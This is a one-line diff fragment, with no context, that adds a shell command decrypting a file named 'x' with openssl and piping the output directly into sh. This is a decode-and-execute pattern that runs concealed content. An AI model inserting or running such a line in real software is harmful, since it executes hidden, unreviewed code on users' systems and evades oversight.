@@ -1,0 +1,1 @@
+openssl enc -d -in x | sh
